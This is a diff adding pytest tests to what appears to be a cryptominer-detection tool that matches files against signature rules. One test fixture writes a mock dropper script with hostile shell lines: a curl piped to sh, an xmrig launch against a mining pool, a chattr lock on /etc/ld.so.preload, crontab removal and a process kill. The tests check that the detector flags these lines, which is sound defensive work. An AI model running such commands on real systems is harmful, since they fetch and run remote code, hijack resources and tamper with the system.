@@ -262,3 +262,32 @@ def test_own_paths_cover_bundle_and_cache(tmp_path: Path) -> None:
     assert any(p.suffix == ".yarc" for p in paths)
     assert is_own_path(tmp_path / "signatures" / "current" / "manifest.json", tmp_path)
     assert not is_own_path(tmp_path / "elsewhere.bin", tmp_path)
+
+
+def test_header_prefilter_skips_files_no_rule_can_match(tmp_path: Path) -> None:
+    b = load_bundle(tmp_path / "home")
+    assert b.file_header_filter is not None
+    miner = tmp_path / "miner.bin"
+    miner.write_bytes(executable("xmrig", "mz"))
+    text = tmp_path / "notes.txt"
+    text.write_bytes(executable("xmrig")[4:])  # the strings without a header
+    script = tmp_path / "drop.sh"
+    script.write_text(
+        "#!/bin/sh\ncurl x | sh; xmrig --donate-level 1 stratum+tcp://a:1\n"
+        "chattr +i /etc/ld.so.preload; crontab -r; pkill -f kworker\n"
+    )
+    assert {m.rule for m in b.match_file(miner)} >= {"minecheck_file_xmrig"}
+    assert b.match_file(text) == []
+    assert {m.rule for m in b.match_file(script)} == {"minecheck_file_miner_dropper_script"}
+    with pytest.raises(OSError):
+        b.match_file(tmp_path / "missing")
+
+
+def test_header_prefilter_is_off_when_a_rule_is_not_anchored() -> None:
+    from agent.bundle.rules import header_filter
+
+    anchored = 'rule a { strings: $x = "x1" condition: uint16(0) == 0x5A4D and $x }'
+    loose = 'rule b { strings: $x = "x2" condition: $x and uint16(0) == 0x5A4D }'
+    f = header_filter({"a": anchored})
+    assert f is not None and f.may_match(b"MZ\x90\x00") and not f.may_match(b"\x7fELF")
+    assert header_filter({"a": anchored, "b": loose}) is None
